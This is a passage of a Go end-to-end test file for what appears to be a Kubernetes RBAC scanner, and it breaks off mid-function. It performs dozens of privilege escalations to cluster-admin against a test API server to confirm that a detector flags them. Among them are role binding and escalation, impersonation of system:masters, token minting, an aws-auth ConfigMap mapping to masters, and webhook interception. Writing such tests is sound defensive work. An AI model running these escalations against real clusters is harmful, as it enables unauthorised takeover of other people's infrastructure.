package e2e

import (
	"cmp"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/rego"
	admissionv1 "k8s.io/api/admission/v1"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/aws-iam-authenticator/pkg/mapper/configmap"

	"github.com/kubemuster/kubemuster/internal/finding"
	"github.com/kubemuster/kubemuster/internal/policy"
	"github.com/kubemuster/kubemuster/internal/snapshot"
	"github.com/kubemuster/kubemuster/test/e2e/cluster"
)

// aggregator is the service account of kube-controller-manager's that may escalate.
const aggregator = "clusterrole-aggregation-controller"

// Whom the cluster's owner has bound to cluster-admin.
const (
	administrator  = "ada"
	administrators = "administrators"
)

// everything is what cluster-admin may.
var everything = []rbacv1.PolicyRule{{Verbs: []string{"*"}, APIGroups: []string{"*"}, Resources: []string{"*"}}}

// attacker is a service account that holds one cluster role, and nothing else.
type attacker struct {
	*testing.T
	name    string // of the service account, its role and its binding
	server  *cluster.Cluster
	config  *rest.Config
	client  kubernetes.Interface
	admin   kubernetes.Interface
	account rbacv1.Subject
}

// escalation is what an attacker holds, and how it gets the rest. Where no controller, kubelet or signer runs, the test does
// what it would do, and only what the attacker has asked for.
type escalation struct {
	way   string // its name in the pack, where the escalation's own is another
	rules []rbacv1.PolicyRule
	take  func(attacker)
}

// boundIn are the namespaces in which escalations hold their rules; the others do everywhere.
var boundIn = map[string]string{
	"start-pods-of-another": "default", "start-pods-by-a-deployment": "default", "issue-tokens-of-another": "default", "impersonate-another": "default",
	"make-token-secrets-of-another": "default", "read token secrets": "default", "bind-in-another-namespace": "default",
	"escalate in a namespace": "default", "escalate-in-kube-system": "kube-system", "make and bind roles": "default",
	"map to administrators": "kube-system",
}

// byRole are those that hold them by a Role of that namespace.
var byRole = map[string]bool{"escalate in a namespace": true, "escalate-in-kube-system": true}

// keeper is a service account that may do everything and has a token in a Secret, as Kubernetes made them once.
const keeper = "keeper"

var escalations = map[string]escalation{
	"everything": {rules: everything, take: func(attacker) {}},
	"escalate":   {rules: []rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "get", "update", "escalate")}, take: func(a attacker) { a.raise(a.client) }},
	"escalate-own-role": {
		"escalate",
		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "get", "update", "escalate"), "escalate-own-role")},
		func(a attacker) { a.raise(a.client) },
	},
	"escalate-system-basic-user":         raisesRoleOfAll("system:basic-user"),
	"escalate-system-discovery":          raisesRoleOfAll("system:discovery"),
	"escalate-system-public-info-viewer": raisesRoleOfAll("system:public-info-viewer"),
	"bind": {
		rules: []rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "bind"), on(rbacv1.GroupName, "clusterrolebindings", "create")},
		take:  func(a attacker) { a.bind("cluster-admin") },
	},
	"bind-cluster-admin": {
		"bind",
		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), "cluster-admin"), on(rbacv1.GroupName, "clusterrolebindings", "create")},
		func(a attacker) { a.bind("cluster-admin") },
	},
	"bind-admin": bindsAggregate("admin"),
	"bind-edit":  bindsAggregate("edit"),
	"bind-aggregator": {
		"bind",
		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), "system:controller:"+aggregator), on(rbacv1.GroupName, "clusterrolebindings", "create")},
		func(a attacker) {
			a.bind("system:controller:" + aggregator)
			a.await(action{Verb: "escalate", Group: rbacv1.GroupName, Resource: "clusterroles"})
			a.raise(a.client)
		},
	},
	"bind-by-the-binding-cluster-admin": {
		"bind",
		[]rbacv1.PolicyRule{
			named(on(rbacv1.GroupName, "clusterroles", "bind"), "cluster-admin"),
			named(on(rbacv1.GroupName, "clusterrolebindings", "patch"), "cluster-admin"),
		},
		func(a attacker) {
			patch, err := json.Marshal([]map[string]any{{"op": "add", "path": "/subjects/-", "value": a.account}})
			a.check(err)
			_, err = a.client.RbacV1().ClusterRoleBindings().Patch(a.Context(), "cluster-admin", types.JSONPatchType, patch, metav1.PatchOptions{})
			a.check(err)
		},
	},
	"bind-in-kube-system": {
		way:   "bind in a namespace",
		rules: []rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "bind"), on(rbacv1.GroupName, "rolebindings", "create")},
		take: func(a attacker) {
			_, err := a.client.RbacV1().RoleBindings("kube-system").Create(a.Context(), &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: a.name}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
			}, metav1.CreateOptions{})
			a.check(err)
			a.await(action{Verb: "create", Namespace: "kube-system", Resource: "serviceaccounts", Subresource: "token"})
			a.raise(a.issue(a.client))
		},
	},
	"bind-in-another-namespace": {
		"bind in a namespace",
		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), "admin"), on(rbacv1.GroupName, "rolebindings", "create")},
		func(a attacker) {
			// A controller fills in what admin may.
			from, err := a.admin.RbacV1().ClusterRoles().Get(a.Context(), "system:aggregate-to-edit", metav1.GetOptions{})
			a.check(err)
			to, err := a.admin.RbacV1().ClusterRoles().Get(a.Context(), "admin", metav1.GetOptions{})
			a.check(err)
			to.Rules = from.Rules
			_, err = a.admin.RbacV1().ClusterRoles().Update(a.Context(), to, metav1.UpdateOptions{})
			a.check(err)
			_, err = a.client.RbacV1().RoleBindings("default").Create(a.Context(), &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "admin"}, Subjects: []rbacv1.Subject{a.account},
			}, metav1.CreateOptions{})
			a.check(err)
			a.await(action{Verb: "create", Namespace: "default", Resource: "serviceaccounts", Subresource: "token"})
			a.check(a.tryBind(a.issueOf("everything"), "cluster-admin"))
		},
	},
	"escalate in a namespace": {
		rules: []rbacv1.PolicyRule{on(rbacv1.GroupName, "roles", "get", "update", "escalate")},
		take: func(a attacker) {
			a.raiseIn("default")
			a.check(a.tryBind(a.issueOf("everything"), "cluster-admin"))
		},
	},
	"escalate-in-kube-system": {
		"escalate in a namespace",
		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "roles", "get", "update", "escalate"), "escalate-in-kube-system")},
		func(a attacker) {
			a.raiseIn("kube-system")
			// A cluster role that it has: everybody has some.
			_, err := a.admin.RbacV1().ClusterRoles().Create(a.Context(), &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: a.name}}, metav1.CreateOptions{})
			a.check(err)
			_, err = a.admin.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: a.name}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: a.name}, Subjects: []rbacv1.Subject{a.account},
			}, metav1.CreateOptions{})
			a.check(err)
			a.raise(a.issue(a.client))
		},
	},
	"make and bind roles": {
		rules: []rbacv1.PolicyRule{on(rbacv1.GroupName, "roles", "create", "escalate", "bind"), on(rbacv1.GroupName, "rolebindings", "create")},
		take: func(a attacker) {
			_, err := a.client.RbacV1().Roles("default").Create(a.Context(), &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, Rules: everything}, metav1.CreateOptions{})
			a.check(err)
			_, err = a.client.RbacV1().RoleBindings("default").Create(a.Context(), &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: a.name + "-more"}, Subjects: []rbacv1.Subject{a.account},
			}, metav1.CreateOptions{})
			a.check(err)
			a.await(action{Verb: "create", Namespace: "default", Resource: "serviceaccounts", Subresource: "token"})
			a.check(a.tryBind(a.issueOf("everything"), "cluster-admin"))
		},
	},
	"impersonate users": {
		rules: []rbacv1.PolicyRule{on("", "users", "impersonate")},
		take:  func(a attacker) { a.raise(a.issue(a.as("system:kube-controller-manager"))) },
	},
	"impersonate-controller-manager": {
		"impersonate users",
		[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), "system:kube-controller-manager")},
		func(a attacker) { a.raise(a.issue(a.as("system:kube-controller-manager"))) },
	},
	"impersonate-administrator": {
		"impersonate users",
		[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), administrator)},
		func(a attacker) { a.raise(a.as(administrator)) },
	},
	"impersonate groups": {
		rules: []rbacv1.PolicyRule{named(on("", "users", "impersonate"), "nobody"), on("", "groups", "impersonate")},
		take:  func(a attacker) { a.raise(a.as("nobody", "system:masters")) },
	},
	"impersonate-masters": {
		"impersonate groups",
		[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), "nobody"), named(on("", "groups", "impersonate"), "system:masters")},
		func(a attacker) { a.raise(a.as("nobody", "system:masters")) },
	},
	"impersonate-masters-as-an-account": {
		"impersonate groups",
		[]rbacv1.PolicyRule{named(on("", "serviceaccounts", "impersonate"), "impersonate-masters-as-an-account"), named(on("", "groups", "impersonate"), "system:masters")},
		func(a attacker) {
			a.raise(a.as("system:serviceaccount:default:"+a.name, "system:masters"))
		},
	},
	"impersonate-administrators": {
		"impersonate groups",
		[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), "nobody"), named(on("", "groups", "impersonate"), administrators)},
		func(a attacker) { a.raise(a.as("nobody", administrators)) },
	},
	"impersonate service accounts": {
		rules: []rbacv1.PolicyRule{on("", "serviceaccounts", "impersonate")},
		take:  func(a attacker) { a.raise(a.as("system:serviceaccount:kube-system:" + aggregator)) },
	},
	"impersonate-aggregator": {
		"impersonate service accounts",
		[]rbacv1.PolicyRule{named(on("", "serviceaccounts", "impersonate"), aggregator)},
		func(a attacker) { a.raise(a.as("system:serviceaccount:kube-system:" + aggregator)) },
	},
	// Constrained impersonation: two verbs, one for who and one for what.
	"impersonate users for some requests": {
		rules: []rbacv1.PolicyRule{
			named(on(authenticationv1.GroupName, "users", "impersonate:user-info"), "system:kube-controller-manager"),
			on("", "serviceaccounts/token", "impersonate-on:user-info:create"),
		},
		take: func(a attacker) { a.raise(a.issue(a.as("system:kube-controller-manager"))) },
	},
	"impersonate administrators for some requests": {
		rules: []rbacv1.PolicyRule{
			named(on(authenticationv1.GroupName, "users", "impersonate:user-info"), administrator),
			on(rbacv1.GroupName, "clusterrolebindings", "impersonate-on:user-info:create"),
		},
		take: func(a attacker) { a.check(a.tryBind(a.as(administrator), "cluster-admin")) },
	},
	"impersonate groups of administrators for some requests": {
		rules: []rbacv1.PolicyRule{
			named(on(authenticationv1.GroupName, "users", "impersonate:user-info"), "nobody"),
			named(on(authenticationv1.GroupName, "groups", "impersonate:user-info"), administrators),
			on(rbacv1.GroupName, "clusterrolebindings", "impersonate-on:user-info:create"),
		},
		take: func(a attacker) { a.check(a.tryBind(a.as("nobody", administrators), "cluster-admin")) },
	},
	"impersonate service accounts for some requests": {
		rules: []rbacv1.PolicyRule{
			named(on(authenticationv1.GroupName, "serviceaccounts", "impersonate:serviceaccount"), aggregator),
			on(rbacv1.GroupName, "clusterroles", "impersonate-on:serviceaccount:get", "impersonate-on:serviceaccount:update"),
		},
		take: func(a attacker) { a.raise(a.as("system:serviceaccount:kube-system:" + aggregator)) },
	},
	"issue tokens": {
		rules: []rbacv1.PolicyRule{on("", "serviceaccounts/token", "create")},
		take:  func(a attacker) { a.raise(a.issue(a.client)) },
	},
	"issue-tokens-of-aggregator": {
		"issue tokens",
		[]rbacv1.PolicyRule{named(on("", "serviceaccounts/token", "create"), aggregator)},
		func(a attacker) { a.raise(a.issue(a.client)) },
	},
	"make token secrets": {
		rules: []rbacv1.PolicyRule{on("", "secrets", "create"), named(on("", "secrets", "get"), "mine")},
		take:  func(a attacker) { a.raise(a.tokenInSecret("kube-system", aggregator)) },
	},
	"make-token-secrets-of-another": {
		"make token secrets",
		[]rbacv1.PolicyRule{on("", "secrets", "create"), named(on("", "secrets", "get"), "mine")},
		func(a attacker) { a.check(a.tryBind(a.tokenInSecret("default", "everything"), "cluster-admin")) },
	},
	"read token secrets": {
		rules: []rbacv1.PolicyRule{named(on("", "secrets", "get"), keeper+"-token-x7k2m")},
		take: func(a attacker) {
			secret, err := a.client.CoreV1().Secrets("default").Get(a.Context(), keeper+"-token-x7k2m", metav1.GetOptions{})
			a.check(err)
			a.check(a.tryBind(clientFor(a.T, a.with(string(secret.Data[corev1.ServiceAccountTokenKey]))), "cluster-admin"))
		},
	},
	"start pods": {
		rules: []rbacv1.PolicyRule{on("", "pods", "create")},
		take: func(a attacker) {
			pod, err := a.client.CoreV1().Pods("kube-system").Create(a.Context(), &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: podOf(aggregator),
			}, metav1.CreateOptions{})
			a.check(err)
			a.raise(a.inPod(pod))
		},
	},
	"patch-a-daemon-set": {
		"start pods",
		[]rbacv1.PolicyRule{named(on("apps", "daemonsets", "patch"), "agent")},
		func(a attacker) {
			labels := map[string]string{"app": "agent"}
			sets := a.admin.AppsV1().DaemonSets("kube-system")
			_, err := sets.Create(a.Context(), &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "agent"}, Spec: appsv1.DaemonSetSpec{
				Selector: &metav1.LabelSelector{MatchLabels: labels},
				Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: podOf("default")},
			}}, metav1.CreateOptions{})
			a.check(err)
			patch := []byte(`{"spec": {"template": {"spec": {"serviceAccountName": "` + aggregator + `", "containers": [{"name": "mine", "image": "registry.example/mine:2"}]}}}}`)
			set, err := a.client.AppsV1().DaemonSets("kube-system").Patch(a.Context(), "agent", types.StrategicMergePatchType, patch, metav1.PatchOptions{})
			a.check(err)
			// The controller makes the pods of the template.
			pod, err := a.admin.CoreV1().Pods("kube-system").Create(a.Context(), &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: set.Spec.Template.Spec,
			}, metav1.CreateOptions{})
			a.check(err)
			a.raise(a.inPod(pod))
		},
	},
	"run code in pods": {
		rules: []rbacv1.PolicyRule{on("", "pods", "patch")},
		take: func(a attacker) {
			pod := a.powerfulPod()
			patch := []byte(`{"spec": {"containers": [{"name": "mine", "image": "registry.example/mine:2"}]}}`)
			pod, err := a.client.CoreV1().Pods("default").Patch(a.Context(), pod.Name, types.StrategicMergePatchType, patch, metav1.PatchOptions{})
			a.check(err)
			if pod.Spec.Containers[0].Image != "registry.example/mine:2" {
				a.Fatalf("the pod runs %+v", pod.Spec.Containers)
			}
			a.raise(a.inPod(pod))
		},
	},
	"run-code-by-ephemeral-containers": {
		"run code in pods",
		[]rbacv1.PolicyRule{on("", "pods/ephemeralcontainers", "patch")},
		func(a attacker) {
			pod := a.powerfulPod()
			// It sees the other's files, the token among them, below /proc.
			patch := []byte(`{"spec": {"ephemeralContainers": [{"name": "more", "image": "registry.example/mine:1", "targetContainerName": "mine"}]}}`)
			pod, err := a.client.CoreV1().Pods("default").Patch(a.Context(), pod.Name, types.StrategicMergePatchType, patch, metav1.PatchOptions{}, "ephemeralcontainers")
			a.check(err)
			a.raise(a.inPod(pod))
		},
	},
	"run-code-by-exec": {
		"run code in pods",
		[]rbacv1.PolicyRule{on("", "pods/exec", "get", "create")},
		func(a attacker) {
			pod := a.powerfulPod()
			// There is no kubelet: what answers is no longer the authorizer.
			err := a.client.CoreV1().RESTClient().Post().Namespace("default").Resource("pods").Name(pod.Name).SubResource("exec").
				VersionedParams(&corev1.PodExecOptions{Command: []string{"cat"}, Stdout: true}, scheme.ParameterCodec).Do(a.Context()).Error()
			if err == nil || apierrors.IsForbidden(err) {
				a.Errorf("the API server answers %v", err)
			}
			a.raise(a.inPod(pod))
		},
	},
	"start-pods-of-another": {
		way:   "start pods",
		rules: []rbacv1.PolicyRule{on("", "pods", "create")},
		take: func(a attacker) {
			pod, err := a.client.CoreV1().Pods("default").Create(a.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: podOf("everything")}, metav1.CreateOptions{})
			a.check(err)
			a.check(a.tryBind(a.inPod(pod), "cluster-admin"))
		},
	},
	"start-pods-by-a-deployment": {
		"start pods",
		[]rbacv1.PolicyRule{on("apps", "deployments", "create")},
		func(a attacker) {
			labels := map[string]string{"app": a.name}
			d, err := a.client.AppsV1().Deployments("default").Create(a.Context(), &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: appsv1.DeploymentSpec{
				Selector: &metav1.LabelSelector{MatchLabels: labels},
				Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: podOf("everything")},
			}}, metav1.CreateOptions{})
			a.check(err)
			// The controllers make the pods of the template.
			pod, err := a.admin.CoreV1().Pods("default").Create(a.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: d.Spec.Template.Spec}, metav1.CreateOptions{})
			a.check(err)
			a.check(a.tryBind(a.inPod(pod), "cluster-admin"))
		},
	},
	"issue-tokens-of-another": {
		"issue tokens",
		[]rbacv1.PolicyRule{named(on("", "serviceaccounts/token", "create"), "everything")},
		func(a attacker) { a.check(a.tryBind(a.issueOf("everything"), "cluster-admin")) },
	},
	"impersonate-another": {
		"impersonate service accounts",
		[]rbacv1.PolicyRule{on("", "serviceaccounts", "impersonate")},
		func(a attacker) {
			a.check(a.tryBind(a.as("system:serviceaccount:default:everything"), "cluster-admin"))
		},
	},
	"map to administrators": {
		rules: []rbacv1.PolicyRule{on("", "configmaps", "create")},
		take: func(a attacker) {
			written, err := a.client.CoreV1().ConfigMaps("kube-system").Create(a.Context(), &corev1.ConfigMap{
				ObjectMeta: metav1.ObjectMeta{Name: "aws-auth"}, Data: map[string]string{"mapUsers": `[{userarn: "arn:aws:iam::111122223333:user/mallory", username: mallory, groups: [system:masters]}]`},
			}, metav1.CreateOptions{})
			a.check(err)
			// What EKS makes of it is the code of its authenticator.
			users, _, _, err := configmap.ParseMap(written.Data)
			a.check(err)
			config := rest.CopyConfig(a.server.Admin)
			config.Impersonate = rest.ImpersonationConfig{UserName: users[0].Username, Groups: users[0].Groups}
			a.check(a.tryBind(clientFor(a.T, config), "cluster-admin"))
		},
	},
	"run code in etcd": {
		rules: []rbacv1.PolicyRule{named(on("", "pods/exec", "get", "create"), "etcd-node-0")},
		take: func(a attacker) {
			_, err := a.admin.CoreV1().Pods("kube-system").Create(a.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "etcd-node-0"}, Spec: podOf("default")}, metav1.CreateOptions{})
			a.check(err)
			// There is no kubelet: what answers is no longer the authorizer. In the pod are etcdctl and the keys for it.
			err = a.client.CoreV1().RESTClient().Post().Namespace("kube-system").Resource("pods").Name("etcd-node-0").SubResource("exec").
				VersionedParams(&corev1.PodExecOptions{Command: []string{"etcdctl"}, Stdout: true}, scheme.ParameterCodec).Do(a.Context()).Error()
			if err == nil || apierrors.IsForbidden(err) {
				a.Errorf("the API server answers %v", err)
			}
		},
	},
	"approve certificates": {
		rules: []rbacv1.PolicyRule{
			on("certificates.k8s.io", "certificatesigningrequests", "create", "get"), on("certificates.k8s.io", "certificatesigningrequests/approval", "update"),
			named(on("certificates.k8s.io", "signers", "approve"), certificatesv1.KubeAPIServerClientSignerName),
		},
		take: func(a attacker) { a.raise(a.issue(a.certified("system:kube-controller-manager"))) },
	},
	"reach kubelets": {
		rules: []rbacv1.PolicyRule{on("", "nodes/proxy", "get")},
		take: func(a attacker) {
			// There is no kubelet: what answers is no longer the authorizer.
			err := a.client.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/node-0/proxy/exec/kube-system/pod/container").Do(a.Context()).Error()
			if err == nil || apierrors.IsForbidden(err) {
				a.Errorf("the API server answers %v", err)
			}
		},
	},
	"change what is admitted": {
		rules: []rbacv1.PolicyRule{on("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "create", "delete")},
		take: func(a attacker) {
			_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(a.Context(), a.webhook(), metav1.CreateOptions{})
			a.check(err)
			a.intercept()
		},
	},
	"change-one-webhook": {
		"change what is admitted",
		[]rbacv1.PolicyRule{named(on("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "patch"), "change-one-webhook")},
		func(a attacker) {
			_, err := a.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(a.Context(), &admissionregistrationv1.MutatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: a.name},
			}, metav1.CreateOptions{})
			a.check(err)
			patch, err := json.Marshal(a.webhook())
			a.check(err)
			_, err = a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(a.Context(), a.name, types.MergePatchType, patch, metav1.PatchOptions{})
			a.check(err)
			a.intercept()
		},
	},
	"change what is admitted by policies": {
		rules: []rbacv1.PolicyRule{
			on("admissionregistration.k8s.io", "mutatingadmissionpolicies", "create", "delete"), on("admissionregistration.k8s.io", "mutatingadmissionpolicybindings", "create"),
		},
		take: func(a attacker) { a.mutate() },
	},
}

// raisesRoleOfAll adds to a role that Kubernetes binds to everyone.
func raisesRoleOfAll(role string) escalation {
	return escalation{
		"escalate",
		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "patch", "escalate"), role)},
		func(a attacker) {
			// The test runs beside others, for whom the role must not be that wide: another right shows as much.
			group := strings.ReplaceAll(role, ":", "-") + ".example"
			patch, err := json.Marshal([]map[string]any{{"op": "add", "path": "/rules/-", "value": on(group, "*", "*")}})
			a.check(err)
			_, err = a.client.RbacV1().ClusterRoles().Patch(a.Context(), role, types.JSONPatchType, patch, metav1.PatchOptions{})
			a.check(err)
			a.await(action{Verb: "*", Group: group, Resource: "*"})
		},
	}
}

// bindsAggregate binds a role whose rules a controller fills in from others.
func bindsAggregate(role string) escalation {
	return escalation{
		"bind",
		[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), role), on(rbacv1.GroupName, "clusterrolebindings", "create")},
		func(a attacker) {
			from, err := a.admin.RbacV1().ClusterRoles().Get(a.Context(), "system:aggregate-to-edit", metav1.GetOptions{})
			a.check(err)
			to, err := a.admin.RbacV1().ClusterRoles().Get(a.Context(), role, metav1.GetOptions{})
			a.check(err)
			to.Rules = from.Rules
			_, err = a.admin.RbacV1().ClusterRoles().Update(a.Context(), to, metav1.UpdateOptions{})
			a.check(err)
			a.bind(role)
			a.await(action{Verb: "create", Namespace: "kube-system", Resource: "serviceaccounts", Subresource: "token"})
			a.raise(a.issue(a.client))
		},
	}
}

// podOf is what runs under a service account.
func podOf(account string) corev1.PodSpec {
	return corev1.PodSpec{ServiceAccountName: account, Containers: []corev1.Container{{Name: "mine", Image: "registry.example/mine:1"}}}
}

var toClusterAdmin = rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}

func on(group, resource string, verbs ...string) rbacv1.PolicyRule {
	return rbacv1.PolicyRule{Verbs: verbs, APIGroups: []string{group}, Resources: []string{resource}}
}

// named limits the rule to objects.
func named(r rbacv1.PolicyRule, names ...string) rbacv1.PolicyRule {
	r.ResourceNames = names
	return r
}

// Each way that the pack calls a takeover makes a service account cluster-admin on the real API server, and is what KM3004
// finds on a workload with that service account.
func TestTakeover(t *testing.T) {
	t.Parallel()
	c := cluster.Start(t, cluster.Options{CA: world.ca})
	admin := kubernetesClient(t, c)
	if _, err := admin.CoreV1().ServiceAccounts("kube-system").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: aggregator}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := admin.RbacV1().ClusterRoleBindings().Create(t.Context(), &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "owners"}, RoleRef: toClusterAdmin,
		Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: administrator}, {APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: administrators}},
	}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	attackers := map[string]attacker{}
	keep := newAttacker(t, c, admin, keeper, everything, "", false)
	secret, err := admin.CoreV1().Secrets("default").Create(t.Context(), tokenSecret(keeper+"-token-x7k2m", keeper), metav1.CreateOptions{})
	keep.check(err)
	keep.fill(secret)
	account, err := admin.CoreV1().ServiceAccounts("default").Get(t.Context(), keeper, metav1.GetOptions{})
	keep.check(err)
	account.Secrets = []corev1.ObjectReference{{Name: secret.Name}}
	_, err = admin.CoreV1().ServiceAccounts("default").Update(t.Context(), account, metav1.UpdateOptions{})
	keep.check(err)
	for name, e := range escalations {
		attackers[name] = newAttacker(t, c, admin, strings.ReplaceAll(name, " ", "-"), e.rules, boundIn[name], byRole[name])
	}
	inv := inventory(t, c)
	for _, a := range attackers {
		inv.Workloads = append(inv.Workloads, snapshot.InventoryWorkload{Kind: "Deployment", Namespace: "default", Name: a.name, ServiceAccount: a.name, Token: true})
	}
	found := takeovers(t, inv, "test")
	also := func(more map[string]string) {
		for name, message := range more {
			if found[name] == "" {
				found[name] = message
			}
		}
	}
	// Where the cluster runs etcd itself, whoever may exec in all pods has this way, too.
	inv.StaticPods = []string{"etcd"}
	also(takeovers(t, inv, "test"))
	also(takeovers(t, inv, "eks"))
	ways := waysOfThePack(t)
	shown := map[string]bool{}
	for _, name := range slices.Sorted(maps.Keys(escalations)) {
		e := escalations[name]
		way := cmp.Or(e.way, name)
		shown[way] = true
		if !slices.Contains(ways, way) {
			t.Errorf("the test shows %q, which is no way of the pack", way)
		}
		t.Run(name, func(t *testing.T) {
			a := attackers[name]
			a.T = t
			if want := "it can take the cluster (" + way + "): "; !strings.HasPrefix(found[a.name], want) {
				t.Errorf("KM3004 says %q", found[a.name])
			}
			e.take(a)
			if way != "reach kubelets" && way != "run code in etcd" && !strings.HasPrefix(name, "escalate-system-") {
				a.await(action{Verb: "*", Group: "*", Resource: "*"})
			}
		})
	}
	for _, way := range ways {
		if !shown[way] {
			t.Errorf("the pack's way %q is not shown by this test", way)
		}
	}
}

// What looks like a takeover and is none: the API server refuses it.
func TestTakeoverIsRefused(t *testing.T) {
	t.Parallel()
	c := cluster.Start(t, cluster.Options{CA: world.ca})
	admin := kubernetesClient(t, c)
	for name, tt := range map[string]struct {
		rules []rbacv1.PolicyRule
		take  func(attacker) error
	}{
		"writing-roles-without-escalate": {
			[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "get", "create", "update", "patch", "bind")},
			func(a attacker) error { return a.tryRaise(a.client) },
		},
		"writing-bindings-without-bind": {
			[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterrolebindings", "create", "update", "patch", "escalate")},
			func(a attacker) error {
				_, err := a.client.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
					ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
				}, metav1.CreateOptions{})
				return err
			},
		},
		"escalating-another-role": {
			[]rbacv1.PolicyRule{on(rbacv1.GroupName, "clusterroles", "get", "update"), named(on(rbacv1.GroupName, "clusterroles", "escalate"), "view")},
			func(a attacker) error { return a.tryRaise(a.client) },
		},
		"binding-another-role": {
			[]rbacv1.PolicyRule{named(on(rbacv1.GroupName, "clusterroles", "bind"), "view"), on(rbacv1.GroupName, "clusterrolebindings", "create")},
			func(a attacker) error {
				_, err := a.client.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
					ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: toClusterAdmin, Subjects: []rbacv1.Subject{a.account},
				}, metav1.CreateOptions{})
				return err
			},
		},
		"issuing-tokens-of-another": {
			[]rbacv1.PolicyRule{named(on("", "serviceaccounts/token", "create"), "issuing-tokens-of-another")},
			func(a attacker) error {
				_, err := a.client.CoreV1().ServiceAccounts("kube-system").CreateToken(a.Context(), aggregator, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
				return err
			},
		},
		"creating-secrets-without-reading": {
			[]rbacv1.PolicyRule{on("", "secrets", "create")},
			func(a attacker) error {
				_, err := a.client.CoreV1().Secrets("kube-system").Get(a.Context(), "any", metav1.GetOptions{})
				return err
			},
		},
		"making-roles-without-bind": {
			[]rbacv1.PolicyRule{on(rbacv1.GroupName, "roles", "create", "escalate"), on(rbacv1.GroupName, "rolebindings", "create")},
			func(a attacker) error {
				_, err := a.client.RbacV1().Roles("kube-system").Create(a.Context(), &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: a.name}, Rules: everything}, metav1.CreateOptions{})
				a.check(err)
				_, err = a.client.RbacV1().RoleBindings("kube-system").Create(a.Context(), &rbacv1.RoleBinding{
